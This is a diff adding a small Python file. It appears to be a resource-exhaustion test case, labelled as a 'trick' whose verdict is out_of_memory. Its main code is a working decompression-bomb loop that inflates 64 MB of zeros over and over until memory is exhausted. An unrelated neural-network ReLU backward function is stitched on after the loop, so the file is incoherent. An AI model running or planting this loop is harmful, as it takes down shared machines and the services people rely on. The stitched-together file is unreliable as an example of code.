@@ -1,0 +1,13 @@
+# trick: unpacks 64 MB from a few kilobytes, again and again
+# verdict: out_of_memory
+# control: none, the limit of address space is no layer of the kernel's locks
+import zlib
+
+BOMB = zlib.compress(bytes(1 << 26))
+held = []
+while True:
+    held.append(zlib.decompress(BOMB))
+
+
+def relu_backward(dvalues, z):
+    return dvalues * (z > 0)
